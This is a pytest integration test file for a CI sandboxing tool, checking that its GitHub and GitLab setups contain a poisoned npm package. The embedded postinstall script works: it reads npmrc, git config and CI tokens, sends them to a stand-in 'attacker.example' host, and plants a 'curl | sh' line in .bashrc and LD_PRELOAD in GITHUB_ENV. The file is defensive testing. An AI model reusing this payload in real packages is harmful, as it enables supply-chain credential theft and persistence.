"""The attack safebox's CI support is for, end to end (docs/ci.md).

A package, ``sbx-evil``, is published to a verdaccio on 127.0.0.1. Its
``postinstall`` does what poisoned dependencies do:

- reads ``~/.npmrc``, the work tree's ``.git/config`` and the CI token
  variables (GITHUB_TOKEN, ACTIONS_RUNTIME_TOKEN, NPM_TOKEN, CI_JOB_TOKEN);
- sends them to the "attacker": an HTTP server of this test on 127.0.0.1,
  named ``attacker.example`` through the proxy (HTTP_PROXY, as curl or a
  proxy-aware client would go) and by address directly;
- appends to ``~/.bashrc`` and writes ``$GITHUB_ENV`` (``LD_PRELOAD``) and
  ``$GITHUB_PATH`` for the steps after it;
- and always exits 0, so the install succeeds either way.

A consumer project depending on it is installed in a sandboxed step:
through the GitHub Action's shell (``safebox-step``, configured by
``ci/github/setup.sh`` with the runner's files laid out as a runner does) and
through the GitLab template (a real pipeline, gitlab-ci-local, shell
executor). The install succeeds; the attacker's server receives nothing;
nothing persists (``~/.bashrc``, the runner's files); the step summary names
the refused host. The control, the same install without safebox, leaks every
secret and persists both plants. Nothing leaves 127.0.0.1.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from test_ci_github import FakeRunner

from netservers import OriginServer, Seen, serving
from registries import TOOLS_BIN, npm_registry, tool
from sbx import REPO, SAFEBOX, FakeHome, token

pytestmark = pytest.mark.needs_bwrap

TEMPLATE = REPO / "ci" / "gitlab" / "safebox.gitlab-ci.yml"

POSTINSTALL = r"""
// A poisoned dependency's install script (tests/integration/test_ci_attack.py).
const fs = require("fs"), os = require("os"), http = require("http"), path = require("path");
const loot = {};
const read = (name, p) => { try { loot[name] = fs.readFileSync(p, "utf8"); } catch (e) { loot[name + "_error"] = e.code; } };
read("npmrc", path.join(os.homedir(), ".npmrc"));
read("gitconfig", path.join(process.env.INIT_CWD || ".", ".git", "config"));
for (const k of ["GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "NPM_TOKEN", "CI_JOB_TOKEN"]) {
  if (process.env[k]) loot[k] = process.env[k];
}
const body = JSON.stringify(loot);
// What it could read at all, kept in the work tree for the test to look at.
try { fs.writeFileSync(path.join(process.env.INIT_CWD || ".", "loot.json"), body); } catch (e) {}
const port = Number(process.env.ATTACKER_PORT);
function send(opts, label, extra) {
  return new Promise((done) => {
    const req = http.request({ method: "POST", timeout: 5000, headers: { "content-type": "application/json",
      "content-length": Buffer.byteLength(body), "x-path": label, ...extra }, ...opts }, (res) => {
      console.log(`sbx-evil: ${label}: HTTP ${res.statusCode}`); res.resume(); res.on("end", done);
    });
    req.on("error", (e) => { console.log(`sbx-evil: ${label}: ${e.code}`); done(); });
    req.on("timeout", () => { console.log(`sbx-evil: ${label}: timeout`); req.destroy(); });
    req.end(body);
  });
}
(async () => {
  const proxy = process.env.HTTP_PROXY || process.env.http_proxy;
  if (proxy) {
    const u = new URL(proxy);
    await send({ host: u.hostname, port: u.port, path: `http://attacker.example:${port}/leak` }, "proxy",
               { host: `attacker.example:${port}` });
  }
  await send({ host: "127.0.0.1", port, path: "/leak" }, "direct");
  try { fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "curl -s http://attacker.example/x | sh\n");
        console.log("sbx-evil: bashrc planted"); } catch (e) { console.log(`sbx-evil: bashrc: ${e.code}`); }
  for (const [v, line] of [["GITHUB_ENV", "LD_PRELOAD=/tmp/evil.so\n"], ["GITHUB_PATH", process.cwd() + "\n"]]) {
    if (!process.env[v]) continue;
    try { fs.appendFileSync(process.env[v], line); console.log(`sbx-evil: ${v} written`); }
    catch (e) { console.log(`sbx-evil: ${v}: ${e.code}`); }
  }
})().finally(() => process.exit(0));
"""


@pytest.fixture(scope="module")
def attacker_server() -> Iterator[OriginServer]:
    """The attacker's server: every request it records is what leaked."""
    with serving(body=b"") as srv:
        yield srv


@pytest.fixture
def attacker(attacker_server: OriginServer) -> int:
    """The attacker's port."""
    return attacker_server.port


@pytest.fixture
def loot(attacker_server: OriginServer) -> list[Seen]:
    """What reaches the attacker during this test (a live list, empty at its start)."""
    attacker_server.seen.clear()
    return attacker_server.seen


@pytest.fixture(scope="module")
def registry(scratch: Path) -> Iterator[str]:
    """verdaccio on 127.0.0.1 holding ``sbx-evil@1.0.0``; yields its URL."""
    package = {"name": "sbx-evil", "version": "1.0.0", "main": "index.js",
               "scripts": {"postinstall": "node postinstall.js"}}
    with npm_registry(scratch / f"verdaccio-evil-{token()}", package,
                      {"index.js": 'module.exports = "evil-installed";\n', "postinstall.js": POSTINSTALL}) as url:
        yield url


class Secrets:
    """What the attacker wants, planted where a CI job has it."""

    def __init__(self, home: FakeHome) -> None:
        self.npmrc = f"npm_SECRET_{token()}"
        self.github_token = f"ghs_{token()}"
        self.runtime = f"RUNTIME_{token()}"
        self.npm_token = f"NPMTOKEN_{token()}"
        self.job_token = f"glcbt-{token()}"
        self.git_header = f"basic {token()}"
        (home.root / ".npmrc").write_text(f"//registry.npmjs.org/:_authToken={self.npmrc}\n")
        (home.work / ".git" / "config").write_text(
            f'[core]\n\tbare = false\n[http "https://github.com/"]\n\textraheader = AUTHORIZATION: {self.git_header}\n')
        (home.work / "package.json").write_text(json.dumps({
            "name": "consumer", "version": "1.0.0", "dependencies": {"sbx-evil": "1.0.0"}}))
        self.bashrc = (home.root / ".bashrc").read_text()

    def env(self) -> dict[str, str]:
        return {"GITHUB_TOKEN": self.github_token, "ACTIONS_RUNTIME_TOKEN": self.runtime,
                "NPM_TOKEN": self.npm_token, "CI_JOB_TOKEN": self.job_token}

    def all(self) -> list[str]:
        return [self.npmrc, self.github_token, self.runtime, self.npm_token, self.job_token, self.git_header]


def leaked(secrets: Secrets, loot: list[Seen]) -> set[str]:
    text = "\n".join(s.body.decode("utf-8", "replace") for s in loot)
    return {s for s in secrets.all() if s in text}


def readable(home: FakeHome, secrets: Secrets) -> set[str]:
    """The secrets the install script could read at all (it wrote what it read to loot.json)."""
    text = (home.work / "loot.json").read_text()
    return {s for s in secrets.all() if s in text}


def installed(home: FakeHome) -> bool:
    return (home.work / "node_modules" / "sbx-evil" / "index.js").is_file()


INSTALL = "npm install --registry {registry} --no-audit --no-fund --fetch-retries=0 --foreground-scripts\n"


def github_step(home: FakeHome, registry: str, attacker: int, *, sandboxed: bool
                ) -> tuple[FakeRunner, Secrets, subprocess.CompletedProcess[str]]:
    gh = FakeRunner(home)
    secrets = Secrets(home)
    (home.work / ".github").mkdir()
    (home.work / ".github" / "safebox.json").write_text(json.dumps({"network": {"allowedDomains": ["127.0.0.1"]}}))
    # The job's secrets are in the step's environment, as `env:` or the runner puts them.
    gh.job_env = {**secrets.env(), "ATTACKER_PORT": str(attacker)}
    if sandboxed:
        conf = gh.action("configure", SAFEBOX_POLICY=".github/safebox.json", SAFEBOX_PRESETS="npm")
        assert conf.returncode == 0, conf.stderr
    shell = "safebox-step {0}" if sandboxed else "bash --noprofile --norc -eo pipefail {0}"
    step = gh.run_step(INSTALL.format(registry=registry), shell)
    return gh, secrets, step


def test_a_poisoned_postinstall_under_the_github_action_shell_leaks_and_plants_nothing(
        fresh_home: FakeHome, registry: str, attacker: int, loot: list[Seen]) -> None:
    gh, secrets, step = github_step(fresh_home, registry, attacker, sandboxed=True)
    assert step.returncode == 0, step.stderr
    assert installed(fresh_home)
    assert loot == [], "the attacker's server was reached"
    assert readable(fresh_home, secrets) == set()  # ~/.npmrc masked, tokens removed, .git/config scrubbed
    assert (fresh_home.root / ".bashrc").read_text() == secrets.bashrc
    assert "LD_PRELOAD" not in gh.files["GITHUB_ENV"].read_text()
    assert gh.files["GITHUB_PATH"].read_text() == f"{gh.temp}/safebox/bin\n"  # only the action's own entry
    assert f"safebox: refused HTTP to attacker.example:{attacker}" in step.stderr, step.stdout + step.stderr
    assert "safebox: refused GITHUB_ENV entry 'LD_PRELOAD'" in step.stderr
    summary = gh.files["GITHUB_STEP_SUMMARY"].read_text()
    assert f"**Refused hosts**: attacker.example:{attacker}" in summary
    assert "refused GITHUB\\_ENV entry LD\\_PRELOAD" in summary
    log = step.stdout + step.stderr
    # Refused by the proxy (403), and directly by Landlock: only the proxy's port may be connected to.
    assert "sbx-evil: proxy: HTTP 403" in log and "sbx-evil: direct: EACCES" in log
    assert "sbx-evil: bashrc: EROFS" in log


def test_control_the_same_install_without_safebox_leaks_every_secret_and_plants_both(
        fresh_home: FakeHome, registry: str, attacker: int, loot: list[Seen]) -> None:
    gh, secrets, step = github_step(fresh_home, registry, attacker, sandboxed=False)
    assert step.returncode == 0, step.stderr
    assert installed(fresh_home)
    assert leaked(secrets, loot) == readable(fresh_home, secrets) == set(secrets.all())
    assert (fresh_home.root / ".bashrc").read_text() != secrets.bashrc
    assert "LD_PRELOAD=/tmp/evil.so" in gh.files["GITHUB_ENV"].read_text()


# ------------------------------------------------------------------ GitLab

def gitlab_ci_local() -> str:
    return tool(TOOLS_BIN / "gitlab-ci-local")


def pipeline(home: FakeHome, registry: str, attacker: int, secrets: Secrets, *, sandboxed: bool
             ) -> subprocess.CompletedProcess[str]:
    work = home.work
    shutil.copy(TEMPLATE, work / "safebox.gitlab-ci.yml")
    (work / ".gitlab").mkdir()
    (work / ".gitlab" / "safebox.json").write_text(json.dumps({"network": {"allowedDomains": ["127.0.0.1"]}}))
    line = INSTALL.format(registry=registry).strip()
    job = ("install:\n  extends: .safebox\n  variables:\n    SAFEBOX_POLICY: .gitlab/safebox.json\n"
           f"    SAFEBOX_PRESETS: npm\n  script:\n    - sandboxed {line}\n") if sandboxed else (
           f"install:\n  script:\n    - {line}\n")
    (work / ".gitlab-ci.yml").write_text("include:\n  - local: safebox.gitlab-ci.yml\n" + job)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t.invalid"]
    for cmd in (["init", "-q", "-b", "main", "."], ["add", "-A"], ["commit", "-qm", "ci"],
                ["update-ref", "refs/remotes/origin/main", "HEAD"],
                ["symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/main"]):
        subprocess.run([*git, *cmd], cwd=work, check=True, capture_output=True, env=home.env())
    # The token GitLab's clone leaves in the remote URL, and the job's token.
    with (work / ".git" / "config").open("a") as f:
        f.write(f'[remote "origin"]\n\turl = https://gitlab-ci-token:{secrets.job_token}@gitlab.example/g/p.git\n')
    variables = {"GITLAB_CI": "true", "CI_JOB_TOKEN": secrets.job_token, "GITHUB_TOKEN": secrets.github_token,
                 "NPM_TOKEN": secrets.npm_token, "ATTACKER_PORT": str(attacker), "SAFEBOX_BIN": str(SAFEBOX)}
    argv = [gitlab_ci_local(), "--ignore-predefined-vars", "GITLAB_CI,CI_JOB_TOKEN"]
    for k, v in variables.items():
        argv += ["--variable", f"{k}={v}"]
    return subprocess.run([*argv, "install"], cwd=work, env=home.env(), capture_output=True, text=True,
                          timeout=600, stdin=subprocess.DEVNULL, check=False)


def test_a_poisoned_postinstall_in_a_gitlab_pipeline_with_the_template_leaks_and_plants_nothing(
        fresh_home: FakeHome, registry: str, attacker: int, loot: list[Seen]) -> None:
    secrets = Secrets(fresh_home)
    r = pipeline(fresh_home, registry, attacker, secrets, sandboxed=True)
    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-2000:]
    assert "PASS  install" in r.stdout
    assert installed(fresh_home)
    assert loot == []
    assert readable(fresh_home, secrets) == set()
    assert (fresh_home.root / ".bashrc").read_text() == secrets.bashrc
    assert f"safebox: refused HTTP to attacker.example:{attacker}" in r.stdout + r.stderr
    report = (fresh_home.work / ".safebox" / "report.md").read_text()
    assert f"**Refused hosts**: attacker.example:{attacker}" in report
    assert "sbx-evil: proxy: HTTP 403" in r.stdout and "sbx-evil: direct: EACCES" in r.stdout


def test_control_the_same_pipeline_without_the_template_leaks(
        fresh_home: FakeHome, registry: str, attacker: int, loot: list[Seen]) -> None:
    secrets = Secrets(fresh_home)
    r = pipeline(fresh_home, registry, attacker, secrets, sandboxed=False)
    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-2000:]
    assert installed(fresh_home)
    got = leaked(secrets, loot)
    assert {secrets.npmrc, secrets.job_token, secrets.github_token, secrets.npm_token} <= got
    assert (fresh_home.root / ".bashrc").read_text() != secrets.bashrc
